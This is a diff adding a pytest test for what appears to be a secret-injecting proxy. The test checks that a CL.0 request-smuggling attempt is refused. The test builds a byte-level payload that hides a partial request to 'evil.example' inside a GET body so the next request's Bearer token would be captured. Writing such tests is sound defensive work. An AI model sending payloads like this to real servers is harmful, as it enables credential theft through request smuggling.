@@ -141,6 +141,23 @@ def test_a_pipelined_smuggle_after_a_good_request_gets_nothing(tmp_path):
     assert_never_leaked(hosts, reply)
 
 
+def test_a_get_body_cannot_wait_for_the_next_requests_value(tmp_path):
+    """CL.0: a server that ignores a GET's Content-Length reads its body as the start of another
+    request, which the next request's head (with the value) completes. Such a request to a
+    secret's host is refused before anything of it goes."""
+    async def body(hosts: Hosts):
+        partial = b"GET /smuggled HTTP/1.1\r\nHost: evil.example\r\nX-Eat: "
+        payload = (b"GET /first HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nContent-Length: %d\r\n\r\n"
+                   % (hosts.https_port, len(partial)) + partial)
+        payload += b"GET /next HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nAuthorization: Bearer %s\r\n\r\n" % (
+            hosts.https_port, hosts.placeholder.encode())
+        return hosts, await asyncio.to_thread(tls_exchange, hosts, payload)
+    hosts, reply = run(tmp_path, body)
+    assert reply.startswith(b"HTTP/1.1 400") and b"GET request with a body" in reply, reply
+    assert hosts.seen == []
+    assert_never_leaked(hosts, reply)
+
+
 def test_pipelined_good_requests_all_go(tmp_path):
     async def body(hosts: Hosts):
         one = b"GET /%d HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nAuthorization: Bearer %s\r\n\r\n"
